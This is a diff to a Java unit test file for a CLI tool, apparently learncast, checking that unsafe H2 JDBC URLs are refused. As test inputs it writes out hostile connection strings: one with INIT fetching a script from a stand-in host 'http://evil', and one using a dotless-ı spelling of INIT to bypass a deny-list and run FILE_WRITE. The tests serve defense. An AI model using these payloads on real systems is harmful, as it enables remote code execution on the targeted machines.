@@ -62,7 +62,19 @@ class BadInputTest {
     void unsafeJdbcUrlsAreRefused() {
         CliRunner.Result r = CliRunner.run("runs", "--db", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'");
         assertEquals(2, r.code());
-        assertTrue(r.err().contains("runs code when connecting"), r.err());
+        assertTrue(r.err().startsWith("error: --db: the JDBC URL sets INIT, which learncast does not allow"), r.err());
+        assertEquals(1, r.err().strip().lines().count(), r.err());
+    }
+
+    /** Found by the hostile pass: a dotless ı got INIT past the old deny-list, and H2 ran it (exit 0, the file written). */
+    @Test
+    void aUnicodeSpelledInitIsRefusedAndRunsNothing() {
+        Path pwned = dir.resolve("PWNED");
+        String url = "jdbc:h2:file:" + dir.resolve("x").resolve("a") + ";ınıt=CALL FILE_WRITE(STRINGTOUTF8('pwned'),'" + pwned + "')";
+        CliRunner.Result r = CliRunner.run("runs", "--db", url);
+        assertEquals(2, r.code(), r.out() + r.err());
+        assertTrue(r.err().startsWith("error: --db:") && r.err().contains("INIT"), r.err());
+        assertFalse(Files.exists(pwned));
     }
 
     @Test
